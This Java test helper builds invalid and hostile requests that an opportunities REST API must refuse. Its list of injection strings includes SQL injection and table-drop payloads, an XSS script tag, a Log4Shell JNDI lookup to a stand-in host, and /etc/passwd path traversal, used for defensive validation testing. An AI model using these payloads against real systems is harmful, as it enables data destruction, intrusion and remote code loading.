package com.pulse.api.opportunity;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.springframework.http.HttpMethod;

/**
 * Requests that must all be refused: wrong types, oversized strings, bad ids, injection
 * strings. Every body is invalid in at least one way, so none of them may change anything.
 */
final class HostileInput {

    record Request(HttpMethod method, String path, String body, Map<String, String> headers) {

        Request(HttpMethod method, String path, String body) {
            this(method, path, body, Map.of());
        }
    }

    private static final String URL = "/api/v1/opportunities";

    static final List<String> NASTY_STRINGS = List.of(
            "'; DROP TABLE opportunities; --",
            "' OR '1'='1",
            "1; UPDATE opportunities SET amount = 0",
            "\\\"}, \\\"amount\\\": 0, \\\"x\\\": \\\"",
            "</script><script>alert(1)</script>",
            "${jndi:ldap://evil/x}",
            "%00%27",
            "\\u0000",
            "CLOSED_WON' --",
            "../../etc/passwd",
            "NaN",
            "💥".repeat(50));

    private HostileInput() {
    }

    static List<Request> requests(UUID existing) {
        List<Request> out = new ArrayList<>();
        String item = URL + "/" + existing;
        List<String> wrongTypes = List.of("true", "[]", "{}", "\"x\"", "-1", "1.5", "null", "1e999", "\"\"",
                "\"" + "9".repeat(400) + "\"", "123456789012345678901234567890");
        // Each field with each wrong type, on create (with an otherwise valid body) and on patch.
        for (String field : List.of("name", "amount", "currency", "stage", "probability", "expectedCloseDate", "accountId", "ownerId")) {
            for (String value : wrongTypes) {
                if (isValid(field, value)) {
                    continue;
                }
                Map<String, String> create = new LinkedHashMap<>();
                create.put("name", "\"Deal\"");
                create.put("amount", "1");
                create.put(field, value);
                out.add(new Request(HttpMethod.POST, URL, object(create)));
                out.add(new Request(HttpMethod.PATCH, item, object(Map.of(field, value))));
            }
        }
        // Injection strings in every text field, each request also carrying an invalid amount.
        for (String nasty : NASTY_STRINGS) {
            String s = json(nasty);
            out.add(new Request(HttpMethod.POST, URL, "{\"name\": " + s + ", \"amount\": -1}"));
            out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"Deal\", \"amount\": 1, \"currency\": " + s + "}"));
            out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"Deal\", \"amount\": 1, \"stage\": " + s + "}"));
            out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"Deal\", \"amount\": 1, \"accountId\": " + s + "}"));
            out.add(new Request(HttpMethod.PATCH, item, "{\"stage\": " + s + "}"));
            out.add(new Request(HttpMethod.PATCH, item, "{\"name\": " + s + ", \"probability\": 1000}"));
            out.add(new Request(HttpMethod.GET, URL + "?stage=" + encode(nasty), null));
            out.add(new Request(HttpMethod.GET, URL + "?cursor=" + encode(nasty), null));
            out.add(new Request(HttpMethod.GET, URL + "/" + encode(nasty), null));
            out.add(new Request(HttpMethod.PATCH, URL + "/" + encode(nasty), "{\"stage\": \"PROPOSAL\"}"));
            out.add(new Request(HttpMethod.POST, URL, "{" + s + ": 1, \"name\": \"Deal\", \"amount\": 1}"));
        }
        // Bad ids.
        for (String id : List.of("0", "null", "undefined", UUID.randomUUID() + "x", "{" + existing + "}",
                existing.toString().replace("-", ""), "-1", "9".repeat(300))) {
            out.add(new Request(HttpMethod.GET, URL + "/" + encode(id), null));
            out.add(new Request(HttpMethod.PATCH, URL + "/" + encode(id), "{\"stage\": \"PROPOSAL\"}"));
        }
        // Oversized and malformed documents.
        out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"" + "A".repeat(201) + "\", \"amount\": 1}"));
        out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"" + "A".repeat(70_000) + "\", \"amount\": 1}"));
        out.add(new Request(HttpMethod.PATCH, item, "{\"name\": \"" + "B".repeat(5_000) + "\"}"));
        out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"Deal\", \"amount\": 1" + ", \"a\": 1".repeat(5_000) + "}"));
        out.add(new Request(HttpMethod.POST, URL, "[".repeat(3_000) + "]".repeat(3_000)));
        out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"Deal\", \"amount\": 1" + "{\"x\":".repeat(2_000)));
        out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"Deal\", \"amount\": " + "9".repeat(2_000) + "}"));
        out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"Deal\", \"amount\": 0." + "1".repeat(1_500) + "}"));
        for (String body : List.of("", " ", "null", "0", "\"str\"", "{", "}", "{\"name\"}", "{'name': 'x', 'amount': 1}",
                "{\"name\": \"Deal\", \"amount\": 1,}", "\u0000", "{\"name\": \"De\u0000al\", \"amount\": 1}",
                "{\"name\": \"Deal\", \"amount\": 1, \"expectedCloseDate\": \"2026-02-29\"}",
                "{\"name\": \"Deal\", \"amount\": 1, \"expectedCloseDate\": \"10000-01-01\"}",
                "{\"name\": \"Deal\", \"amount\": 1, \"probability\": 2147483648}",
                "{\"name\": \"Deal\", \"amount\": 1, \"version\": 1}")) {
            out.add(new Request(HttpMethod.POST, URL, body));
            if (!body.contains("\"version\"")) {
                out.add(new Request(HttpMethod.PATCH, item, body.isEmpty() ? "{}" : body));
            }
        }
        for (String version : List.of("0", "-1", "1.5", "\"1\"", "true", "99999999999999999999")) {
            out.add(new Request(HttpMethod.PATCH, item, "{\"stage\": \"PROPOSAL\", \"version\": " + version + "}"));
        }
        for (String q : List.of("limit=0", "limit=201", "limit=1e3", "limit=99999999999", "limit=-1", "limit=",
                "stage=", "cursor=", "cursor=%00", "stage=prospecting")) {
            out.add(new Request(HttpMethod.GET, URL + "?" + q, null));
        }
        lifecycle(out, existing, wrongTypes);
        return out;
    }

    /**
     * The recycle bin, stage move, history and Idempotency-Key: each request is refused (bad id,
     * bad or stale If-Match, invalid body, deleting... nothing valid), so none may change anything.
     */
    private static void lifecycle(List<Request> out, UUID existing, List<String> wrongTypes) {
        String item = URL + "/" + existing;
        for (String field : List.of("stage", "probability", "lostReason", "version")) {
            for (String value : wrongTypes) {
                // Only the stage field can make a body valid, and no wrong type is a valid stage.
                out.add(new Request(HttpMethod.POST, item + "/stage", object(Map.of(field, value))));
                out.add(new Request(HttpMethod.POST, item + "/stage", "{\"stage\": \"CLOSED_LOST\", \"probability\": 101, \""
                        + field + "\": " + value + "}"));
            }
        }
        for (String nasty : NASTY_STRINGS) {
            String s = json(nasty);
            String id = encode(nasty);
            out.add(new Request(HttpMethod.POST, item + "/stage", "{\"stage\": " + s + "}"));
            out.add(new Request(HttpMethod.POST, item + "/stage", "{\"stage\": \"PROPOSAL\", \"lostReason\": " + s + "}"));
            out.add(new Request(HttpMethod.POST, item + "/stage", "{\"stage\": \"CLOSED_LOST\", \"lostReason\": " + s
                    + ", \"probability\": -5}"));
            out.add(new Request(HttpMethod.DELETE, URL + "/" + id, null));
            out.add(new Request(HttpMethod.POST, URL + "/" + id + "/restore", null));
            out.add(new Request(HttpMethod.POST, URL + "/" + id + "/stage", "{\"stage\": \"PROPOSAL\"}"));
            out.add(new Request(HttpMethod.GET, URL + "/" + id + "/history", null));
            out.add(new Request(HttpMethod.GET, URL + "?deleted=" + id, null));
            out.add(new Request(HttpMethod.DELETE, item, null, Map.of("If-Match", nasty.replaceAll("[^ -~]", "?"))));
            out.add(new Request(HttpMethod.POST, URL, "{\"name\": " + s + ", \"amount\": -1}",
                    Map.of("Idempotency-Key", "hostile-" + nasty.replaceAll("[^ -~]", "?"))));
        }
        for (String etag : List.of("\"0\"", "\"99\"", "W/\"99\"", "\"-1\"", "\"" + "9".repeat(19) + "\"", "1,2", "\"1\" \"2\"")) {
            out.add(new Request(HttpMethod.DELETE, item, null, Map.of("If-Match", etag)));
            out.add(new Request(HttpMethod.POST, item + "/stage", "{\"stage\": \"PROPOSAL\"}", Map.of("If-Match", etag)));
        }
        // Restoring a live opportunity is refused, with any body.
        for (String body : List.of("", "{}", "{\"deleted\": false}", "[".repeat(3_000))) {
            out.add(new Request(HttpMethod.POST, item + "/restore", body.isEmpty() ? null : body));
        }
        for (String key : List.of("k".repeat(201), "k".repeat(10_000))) {
            out.add(new Request(HttpMethod.POST, URL, "{\"name\": \"Keyed deal\", \"amount\": 1}", Map.of("Idempotency-Key", key)));
        }
        out.add(new Request(HttpMethod.POST, item + "/stage", "{\"stage\": \"CLOSED_LOST\", \"lostReason\": \"" + "L".repeat(501) + "\"}"));
        out.add(new Request(HttpMethod.POST, item + "/stage", "{\"stage\": \"CLOSED_LOST\", \"lostReason\": \"" + "L".repeat(70_000) + "\"}"));
        out.add(new Request(HttpMethod.POST, item + "/stage", ""));
        out.add(new Request(HttpMethod.POST, item + "/stage", "{\"stage\": \"PROPOSAL\", \"stage\": \"NEGOTIATION\"}"));
        out.add(new Request(HttpMethod.POST, item + "/stage", "{\"stage\": \"PROPOSAL\", \"name\": \"Renamed\"}"));
        out.add(new Request(HttpMethod.PUT, item + "/stage", "{\"stage\": \"PROPOSAL\"}"));
        out.add(new Request(HttpMethod.DELETE, item + "/history", null));
        out.add(new Request(HttpMethod.DELETE, URL + "?deleted=true", null));
    }


    /** The few (field, value) pairs above that are acceptable, and so are left out. */
    private static boolean isValid(String field, String value) {
        return switch (field) {
            case "name" -> value.startsWith("\"x") || value.startsWith("\"9");
            case "amount" -> value.equals("1.5");
            default -> value.equals("null"); // an absent optional field
        };
    }

    private static String object(Map<String, String> fields) {
        StringBuilder sb = new StringBuilder("{");
        fields.forEach((k, v) -> sb.append(sb.length() > 1 ? ", " : "").append('"').append(k).append("\": ").append(v));
        return sb.append('}').toString();
    }

    private static String json(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    private static String encode(String s) {
        return java.net.URLEncoder.encode(s, java.nio.charset.StandardCharsets.UTF_8);
    }
}
